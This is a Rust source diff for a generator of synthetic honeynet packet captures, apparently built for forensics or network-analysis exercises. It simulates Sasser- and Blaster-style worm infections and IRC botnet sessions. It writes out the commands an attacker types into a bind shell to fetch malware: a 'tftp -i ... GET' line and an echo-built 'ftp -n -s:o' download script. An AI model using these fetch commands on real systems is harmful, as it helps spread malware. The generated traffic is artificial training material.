@@ -275,6 +275,108 @@ struct Spec {
     bytes: Vec<u8>,
 }
 
+/// The bind shell port exploits open for a typed fetch (Blaster's 4444).
+const SHELL_PORT: u16 = 4444;
+/// The FTP server port of Sasser's infecting hosts.
+const SASSER_FTP_PORT: u16 = 5554;
+/// How long before the fetch the shell connection opens, µs.
+const SHELL_LEAD_US: i64 = 1_200_000;
+
+/// How a copy is started (issue 15, classes 2 and 3).
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum CopyStart {
+    /// Decided from the copy's own ports, with no draw from the stream
+    /// (honeynet attempts): see [`copy_shape`].
+    ByPorts,
+    /// As the method says, never typed.
+    Plain,
+    /// Typed into the exploit's bind shell: an FTP fetch (reverse
+    /// connection) from `ftp_port` in active or passive mode, or a TFTP
+    /// GET (`ftp_port` unused).
+    Shell { ftp_port: Option<u16>, active: bool },
+}
+
+/// What a copy looks like on the wire.
+#[derive(Clone, Debug)]
+struct CopyShape {
+    /// `tftp`, `ftp` or `tcp`.
+    via: &'static str,
+    /// FTP data connection opened by the infecting host (PORT).
+    active: bool,
+    /// FTP server port replacing the drawn one.
+    ftp_port: Option<u16>,
+    /// The command line typed into the bind shell.
+    typed: Option<String>,
+}
+
+/// Decides a copy's shape. Honeynet attempts (`ByPorts`) take it from the
+/// ports already drawn: a reverse connection to an even port is an FTP
+/// fetch (passive, as before); half of those (even victim port) were typed
+/// into a bind shell, and of these the ones whose victim port is 2 mod 4
+/// use active mode and the others Sasser's FTP port 5554; a quarter of the
+/// TFTP GETs (victim port 0 mod 4) were typed too. Share access never
+/// binds a shell (its AT job is the instruction).
+fn copy_shape(
+    method: CopyMethod,
+    vector: Vector,
+    f: FlowKey,
+    start: CopyStart,
+    filename: &str,
+) -> CopyShape {
+    let shell_ok = vector != Vector::ShareAccess;
+    let mut sh = CopyShape {
+        via: "tcp",
+        active: false,
+        ftp_port: None,
+        typed: None,
+    };
+    let attacker = f.resp_h;
+    match method {
+        CopyMethod::TcpPush => {}
+        CopyMethod::TftpGet => {
+            sh.via = "tftp";
+            let typed = match start {
+                CopyStart::ByPorts => shell_ok && f.orig_p.is_multiple_of(4),
+                CopyStart::Plain => false,
+                CopyStart::Shell { .. } => true,
+            };
+            if typed {
+                sh.typed = Some(format!("tftp -i {attacker} GET {filename}"));
+            }
+        }
+        CopyMethod::ReverseConnect => {
+            let (ftp, typed) = match start {
+                CopyStart::ByPorts => {
+                    let ftp = f.resp_p.is_multiple_of(2);
+                    (ftp, ftp && shell_ok && f.orig_p.is_multiple_of(2))
+                }
+                CopyStart::Plain => (f.resp_p.is_multiple_of(2), false),
+                CopyStart::Shell { ftp_port, active } => {
+                    sh.ftp_port = ftp_port;
+                    sh.active = active;
+                    (true, true)
+                }
+            };
+            if ftp {
+                sh.via = "ftp";
+            }
+            if typed {
+                if start == CopyStart::ByPorts {
+                    sh.active = f.orig_p % 4 == 2;
+                    if !sh.active {
+                        sh.ftp_port = Some(SASSER_FTP_PORT);
+                    }
+                }
+                let port = sh.ftp_port.unwrap_or(f.resp_p);
+                sh.typed = Some(format!(
+                    "echo open {attacker} {port} > o & echo user 1 1 >> o & echo binary >> o & echo get {filename} >> o & echo bye >> o & ftp -n -s:o"
+                ));
+            }
+        }
+    }
+    sh
+}
+
 /// A scheduled IRC line inside a session.
 #[derive(Clone, Debug)]
 struct IrcLine {
@@ -367,6 +469,7 @@ pub fn generate(cfg: &SynthConfig, out: &Path) -> io::Result<Truth> {
     let (chat_file, chat) = crate::chat::render_chat(cfg.seed, cfg.start_us, out)?;
     g.t.files.push(chat_file);
     g.t.chat_sessions.push(chat);
+    g.other_vantage_points(out)?;
     g.t.tables.table1 = table1;
     if let Some(rt) = rt {
         g.finish_resolver(rt, out)?;
@@ -576,6 +679,7 @@ impl Gen {
         }
     }
 
+    #[allow(clippy::too_many_arguments)]
     fn add_exploit(
         &mut self,
         ts: i64,
@@ -584,6 +688,7 @@ impl Gen {
         vector: Vector,
         cap: Cap,
         copy: Option<(CopyMethod, bool, u32)>,
+        start: CopyStart,
     ) -> u32 {
         let file = match cap {
             Cap::Exploits => "pcap/honeynet-exploits.pcap",
@@ -673,6 +778,33 @@ impl Gen {
                 ),
             };
             let cid = self.t.copies.len() as u32;
+            let shape = copy_shape(method, vector, f, start, &filename);
+            let mut f = f;
+            if let Some(p) = shape.ftp_port {
+                f.resp_p = p;
+            }
+            let ftp = (shape.via == "ftp").then(|| {
+                let (v, a) = (victim, attacker);
+                FtpFetchTruth {
+                    mode: if shape.active { "active" } else { "passive" }.into(),
+                    data_flow: if shape.active {
+                        flow(a, 20, v, f.orig_p + 1, Proto::Tcp)
+                    } else {
+                        flow(v, f.orig_p + 1, a, f.resp_p + 1, Proto::Tcp)
+                    },
+                }
+            });
+            // A typed fetch starts with the shell the exploit bound, 1.2 s
+            // before the fetch; the exploit then carries no instruction.
+            let shell = shape.typed.map(|typed| {
+                self.t.exploits[idx as usize].instruction = None;
+                ShellTruth {
+                    flow: flow(attacker, sport + 1, victim, SHELL_PORT, Proto::Tcp),
+                    ts: Ts(tc - SHELL_LEAD_US),
+                    typed,
+                }
+            });
+            let job_t = shell.as_ref().map_or(tc, |_| tc - SHELL_LEAD_US);
             self.t.copies.push(CopyTruth {
                 id: cid,
                 file,
@@ -685,8 +817,11 @@ impl Gen {
                 size,
                 success,
                 specimen,
+                via: shape.via.into(),
+                ftp,
+                shell,
             });
-            self.jobs.push((tc, cap, Job::Copy { idx: cid }));
+            self.jobs.push((job_t, cap, Job::Copy { idx: cid }));
         }
         idx
     }
@@ -709,12 +844,23 @@ impl Gen {
             let ts = start + self.rng.random_range(0..span);
             let attacker = attackers[self.rng.random_range(0..attackers.len())];
             let victim = self.t.sensors[self.rng.random_range(0..self.t.sensors.len())];
+            // The first reverse connection (after MS04-011, the second
+            // attempt) is Sasser's: a typed FTP script, the infecting
+            // host's FTP server on 5554, passive mode.
+            let start = if copies_planned == 1 {
+                CopyStart::Shell {
+                    ftp_port: Some(SASSER_FTP_PORT),
+                    active: false,
+                }
+            } else {
+                CopyStart::ByPorts
+            };
             let copy = if i < 7 || self.rng.random_bool(0.85) {
                 let method = if copies_planned < 3 {
                     [
                         CopyMethod::TftpGet,
-                        CopyMethod::TcpPush,
                         CopyMethod::ReverseConnect,
+                        CopyMethod::TcpPush,
                     ][copies_planned]
                 } else {
                     [
@@ -734,7 +880,7 @@ impl Gen {
             } else {
                 None
             };
-            self.add_exploit(ts, attacker, victim, vector, Cap::Exploits, copy);
+            self.add_exploit(ts, attacker, victim, vector, Cap::Exploits, copy, start);
         }
     }
 
@@ -767,10 +913,31 @@ impl Gen {
                 Vector::ShareAccess,
                 Vector::Ms03_039,
             ][b % 4];
-            let method = if self.rng.random_bool(0.82) {
+            let mut method = if self.rng.random_bool(0.82) {
                 CopyMethod::TftpGet
             } else {
                 CopyMethod::TcpPush
+            };
+            // Issue 15, classes 2 and 3: the second bot of every four is
+            // infected the way Sasser spread (LSASS, a bind shell, a typed
+            // FTP script, the infecting host's FTP server on 5554, active
+            // mode); the fourth by a `tftp` typed into the shell.
+            let start = match b % 4 {
+                1 => {
+                    method = CopyMethod::ReverseConnect;
+                    CopyStart::Shell {
+                        ftp_port: Some(SASSER_FTP_PORT),
+                        active: true,
+                    }
+                }
+                3 => {
+                    method = CopyMethod::TftpGet;
+                    CopyStart::Shell {
+                        ftp_port: None,
+                        active: false,
+                    }
+                }
+                _ => CopyStart::Plain,
             };
             let e = self.add_exploit(
                 t_inf,
@@ -779,9 +946,13 @@ impl Gen {
                 vector,
                 Cap::Infected,
                 Some((method, true, specimen)),
+                start,
             );
             seq.push(("exploit".into(), Ts(t_inf)));
             let cp = self.t.exploits[e as usize].copy.unwrap_or(0);
+            if let Some(sh) = &self.t.copies[cp as usize].shell {
+                seq.push(("shell".into(), sh.ts));
+            }
             let t_copy = self.t.copies[cp as usize].ts.0;
             seq.push(("copy".into(), Ts(t_copy)));
             // Neighbour scan at once: own /24 then own /16.
@@ -1048,6 +1219,9 @@ impl Gen {
                     end: Ts(end.max(last_t + 3_000_000)),
                     flow: flow(bot, cport, srv_ip, server.port, Proto::Tcp),
                     privmsg_lines: privmsgs,
+                    // Issue 15, class 7: servers at an odd address speak
+                    // IRCv3 message tags (no draw from the stream).
+                    tags: srv_ip.octets()[3] % 2 == 1,
                 });
                 self.irc_lines.push(lines);
                 self.irc_topic.push(topic);
@@ -1263,6 +1437,46 @@ impl Gen {
     }
 
     /// Draws what the background writer needs from the scenario stream.
+    /// Captures of the field from elsewhere than the honeypot net's
+    /// capture set (`vantage/`; issue 15): the infected honeypots' capture
+    /// as taken on their VM host's bridge, where the honeypots' virtual
+    /// NICs leave TX checksums to offload, and the herder's client.
+    fn other_vantage_points(&mut self, out: &Path) -> io::Result<()> {
+        std::fs::create_dir_all(out.join("vantage"))?;
+        let src = "pcap/infected.pcap";
+        let dst = "vantage/infected-hostside.pcap";
+        let senders = self.t.sensors.iter().map(|s| crate::pcap::host_mac(*s));
+        let n = crate::pcap::copy_with_offload(&out.join(src), &out.join(dst), &senders.collect())?;
+        let bytes = std::fs::metadata(out.join(dst))?.len();
+        self.t.files.push(FileTruth {
+            path: dst.into(),
+            kind: "pcap: infected honeypots taken on their VM host (TX checksum offload)".into(),
+            packets: n.packets,
+            bytes,
+        });
+        self.t.offload = Some(OffloadTruth {
+            file: dst.into(),
+            copy_of: src.into(),
+            packets: n.packets,
+            bad_checksums: n.bad,
+            sample: n.sample,
+            bad_in_sample: n.bad_in_sample,
+        });
+        let Some(session) = self.t.irc_sessions.first().cloned() else {
+            return Ok(());
+        };
+        let herder = self
+            .herder
+            .get(&session.fqdn)
+            .cloned()
+            .unwrap_or_else(|| "herder".into());
+        let scan = SCAN_ORDERS[(self.cfg.seed % SCAN_ORDERS.len() as u64) as usize];
+        let (file, h) = crate::herder::render_herder(self.cfg.seed, &session, &herder, scan, out)?;
+        self.t.files.push(file);
+        self.t.herder_sessions.push(h);
+        Ok(())
+    }
+
     fn plan_background(&mut self) -> BackgroundPlan {
         let sources: Vec<Ipv4Addr> = (0..2000).map(|_| public_ip(&mut self.rng)).collect();
         BackgroundPlan {
@@ -1380,7 +1594,27 @@ impl Gen {
         let (attacker, victim) = (e.attacker, e.victim);
         let bytes = self.specs[cp.specimen as usize].bytes.clone();
         let t0 = cp.ts.0;
-        match cp.method {
+        // The bind shell the fetch is typed into: open until after it.
+        let shell = cp.shell.as_ref().map(|sh| {
+            let mut c = Tcp::new(
+                attacker,
+                sh.flow.orig_p,
+                victim,
+                sh.flow.resp_p,
+                sh.ts.0,
+                r.random(),
+            );
+            c.handshake(f);
+            c.s_send(f, SHELL_BANNER);
+            let typed_at = c.t;
+            c.c_send(f, format!("{}\r\n", sh.typed).as_bytes());
+            (c, typed_at)
+        });
+        if let (Some((_, at)), Some(s)) = (&shell, self.t.copies[idx as usize].shell.as_mut()) {
+            // The typed line's packet time (what a reader reports).
+            s.ts = Ts(*at);
+        }
+        let t_end = match cp.method {
             CopyMethod::TftpGet => {
                 let cport = cp.flow.orig_p;
                 let vip = Ip4 {
@@ -1423,81 +1657,13 @@ impl Gen {
                         &proto::tftp_error(0, "transfer aborted"),
                     );
                 }
+                t + 10_000
             }
-            // Half the reverse connections (by port, no extra random draw)
-            // are an FTP fetch: the victim logs into the infecting host's
-            // FTP server and RETRs the file over a passive data connection.
-            CopyMethod::ReverseConnect if cp.flow.resp_p.is_multiple_of(2) => {
-                let body = if cp.success {
-                    &bytes[..]
-                } else {
-                    &bytes[..bytes.len() / 3]
-                };
-                let mut c = Tcp::new(
-                    victim,
-                    cp.flow.orig_p,
-                    attacker,
-                    cp.flow.resp_p,
-                    t0,
-                    r.random(),
-                );
-                c.handshake(f);
-                c.s_send(f, b"220 FTP server ready\r\n");
-                let dport = cp.flow.resp_p + 1;
-                let a = attacker.octets();
-                let pasv = format!(
-                    "227 Entering Passive Mode ({},{},{},{},{},{})\r\n",
-                    a[0],
-                    a[1],
-                    a[2],
-                    a[3],
-                    dport >> 8,
-                    dport & 0xff
-                );
-                for (cmd, reply) in [
-                    (&b"USER 1\r\n"[..], &b"331 Password required.\r\n"[..]),
-                    (b"PASS 1\r\n", b"230 Logged in.\r\n"),
-                    (b"TYPE I\r\n", b"200 Type set to I.\r\n"),
-                    (b"PASV\r\n", pasv.as_bytes()),
-                ] {
-                    c.c_send(f, cmd);
-                    c.s_send(f, reply);
-                }
-                let mut d = Tcp::new(
-                    victim,
-                    cp.flow.orig_p + 1,
-                    attacker,
-                    dport,
-                    c.t + 5_000,
-                    (cp.flow.orig_p as u32).wrapping_mul(0x9e37_79b9),
-                );
-                d.handshake(f);
-                c.t = d.t;
-                c.c_send(f, format!("RETR {}\r\n", cp.filename).as_bytes());
-                c.s_send(
-                    f,
-                    format!(
-                        "150 Opening BINARY mode data connection for {} ({} bytes).\r\n",
-                        cp.filename,
-                        bytes.len()
-                    )
-                    .as_bytes(),
-                );
-                d.t = c.t;
-                d.s_send(f, body);
-                d.close(f, false);
-                c.t = d.t + 5_000;
-                c.s_send(
-                    f,
-                    if cp.success {
-                        b"226 Transfer complete.\r\n"
-                    } else {
-                        b"426 Connection closed; transfer aborted.\r\n"
-                    },
-                );
-                c.c_send(f, b"QUIT\r\n");
-                c.s_send(f, b"221 Goodbye.\r\n");
-                c.close(f, true);
+            // An FTP fetch: the victim logs into the infecting host's FTP
+            // server and RETRs the file over a passive data connection it
+            // opens, or an active one the server opens from port 20.
+            CopyMethod::ReverseConnect if cp.via == "ftp" => {
+                render_ftp_fetch(f, &cp, &bytes, (victim, attacker), r)
             }
             CopyMethod::TcpPush | CopyMethod::ReverseConnect => {
                 let push = cp.method == CopyMethod::TcpPush;
@@ -1520,7 +1686,12 @@ impl Gen {
                     c.s_send(f, body);
                     c.close(f, false);
                 }
+                c.t
             }
+        };
+        if let Some((mut c, _)) = shell {
+            c.t = c.t.max(t_end + 100_000);
+            c.close(f, true);
         }
     }
 
@@ -1596,21 +1767,32 @@ impl Gen {
             idx.wrapping_mul(2654435761),
         );
         c.handshake(f);
-        c.s_send(
+        // Server lines, with IRCv3 message tags when the server uses them.
+        let mut tagged = 0u32;
+        let mut server_says = |c: &mut Tcp, f: &mut PcapFile, text: &str| {
+            if s.tags {
+                let t = proto::ircv3_tagged(text, c.t, idx, &mut tagged);
+                c.s_send(f, t.as_bytes());
+            } else {
+                c.s_send(f, text.as_bytes());
+            }
+        };
+        server_says(
+            &mut c,
             f,
-            format!(":{srv} NOTICE AUTH :*** Looking up your hostname...\r\n").as_bytes(),
+            &format!(":{srv} NOTICE AUTH :*** Looking up your hostname...\r\n"),
         );
         c.c_send(
             f,
             format!("NICK {}\r\nUSER {} 0 0 :{}\r\n", s.nick, s.nick, s.nick).as_bytes(),
         );
         let n = &s.nick;
-        c.s_send(
+        server_says(
+            &mut c,
             f,
-            format!(
+            &format!(
                 ":{srv} 001 {n} :Welcome to the Internet Relay Network {n}\r\n:{srv} 002 {n} :Your host is {srv}, running version Unreal3.2\r\n:{srv} 376 {n} :End of /MOTD command.\r\n"
-            )
-            .as_bytes(),
+            ),
         );
         c.t = c.t.max(s.join.0 - 300_000);
         let join = match &s.key {
@@ -1619,19 +1801,19 @@ impl Gen {
         };
         c.c_send(f, join.as_bytes());
         let ch = &s.channel;
-        c.s_send(
+        server_says(
+            &mut c,
             f,
-            format!(
+            &format!(
                 ":{n}!{n}@{} JOIN :{ch}\r\n:{srv} 332 {n} {ch} :{topic}\r\n:{srv} 333 {n} {ch} {herder} {}\r\n:{srv} 353 {n} @ {ch} :{n} @{herder}\r\n:{srv} 366 {n} {ch} :End of /NAMES list.\r\n",
                 s.bot,
                 s.join.secs()
-            )
-            .as_bytes(),
+            ),
         );
         for l in &lines {
             c.t = c.t.max(l.t);
             if l.from_server {
-                c.s_send(f, l.text.as_bytes());
+                server_says(&mut c, f, &l.text);
             } else {
                 c.c_send(f, l.text.as_bytes());
             }
@@ -2059,6 +2241,122 @@ fn parse_flood_args(kind: &str, args: &[String]) -> Option<FloodArgs> {
         secs: secs.unwrap_or(60),
         delay_ms,
     })
+}
+
+/// What a Windows bind shell prints first (the shell dissector's cue).
+const SHELL_BANNER: &[u8] = b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>";
+
+/// Writes an FTP fetch (`cp.via == "ftp"`): the victim logs in on the
+/// infecting host's FTP server (`cp.flow`), asks for a passive data
+/// connection (`PASV`, the victim connects) or offers an active one
+/// (`PORT`, the server connects from port 20), and RETRs the file; the
+/// server sends it and `226` (a third and `426` on failure). Returns the
+/// end time.
+fn render_ftp_fetch(
+    f: &mut PcapFile,
+    cp: &CopyTruth,
+    bytes: &[u8],
+    (victim, attacker): (Ipv4Addr, Ipv4Addr),
+    r: &mut ChaCha8Rng,
+) -> i64 {
+    let body = if cp.success {
+        bytes
+    } else {
+        &bytes[..bytes.len() / 3]
+    };
+    let Some(ftp) = &cp.ftp else { return cp.ts.0 };
+    let active = ftp.mode == "active";
+    let d = &ftp.data_flow;
+    let mut c = Tcp::new(
+        victim,
+        cp.flow.orig_p,
+        attacker,
+        cp.flow.resp_p,
+        cp.ts.0,
+        r.random(),
+    );
+    c.handshake(f);
+    c.s_send(f, b"220 FTP server ready\r\n");
+    let hp = |ip: Ipv4Addr, port: u16| {
+        let a = ip.octets();
+        format!(
+            "{},{},{},{},{},{}",
+            a[0],
+            a[1],
+            a[2],
+            a[3],
+            port >> 8,
+            port & 0xff
+        )
+    };
+    let (mode_cmd, mode_reply) = if active {
+        (
+            format!("PORT {}\r\n", hp(victim, d.resp_p)),
+            "200 PORT command successful.\r\n".to_string(),
+        )
+    } else {
+        (
+            "PASV\r\n".to_string(),
+            format!("227 Entering Passive Mode ({})\r\n", hp(attacker, d.resp_p)),
+        )
+    };
+    for (cmd, reply) in [
+        (&b"USER 1\r\n"[..], &b"331 Password required.\r\n"[..]),
+        (b"PASS 1\r\n", b"230 Logged in.\r\n"),
+        (b"TYPE I\r\n", b"200 Type set to I.\r\n"),
+        (mode_cmd.as_bytes(), mode_reply.as_bytes()),
+    ] {
+        c.c_send(f, cmd);
+        c.s_send(f, reply);
+    }
+    let isn = (cp.flow.orig_p as u32).wrapping_mul(0x9e37_79b9);
+    let announce = |c: &mut Tcp, f: &mut PcapFile| {
+        c.c_send(f, format!("RETR {}\r\n", cp.filename).as_bytes());
+        c.s_send(
+            f,
+            format!(
+                "150 Opening BINARY mode data connection for {} ({} bytes).\r\n",
+                cp.filename,
+                bytes.len()
+            )
+            .as_bytes(),
+        );
+    };
+    let (dc, ds) = if active {
+        (attacker, victim)
+    } else {
+        (victim, attacker)
+    };
+    let mut data = Tcp::new(dc, d.orig_p, ds, d.resp_p, 0, isn);
+    if active {
+        // The server connects once the RETR asked for the file.
+        announce(&mut c, f);
+        data.t = c.t;
+        data.handshake(f);
+        data.c_send(f, body);
+        data.close(f, true);
+    } else {
+        data.t = c.t + 5_000;
+        data.handshake(f);
+        c.t = data.t;
+        announce(&mut c, f);
+        data.t = c.t;
+        data.s_send(f, body);
+        data.close(f, false);
+    }
+    c.t = data.t + 5_000;
+    c.s_send(
+        f,
+        if cp.success {
+            b"226 Transfer complete.\r\n"
+        } else {
+            b"426 Connection closed; transfer aborted.\r\n"
+        },
+    );
+    c.c_send(f, b"QUIT\r\n");
+    c.s_send(f, b"221 Goodbye.\r\n");
+    c.close(f, true);
+    c.t
 }
 
 fn r_as(r: &mut ChaCha8Rng) -> &mut ChaCha8Rng {
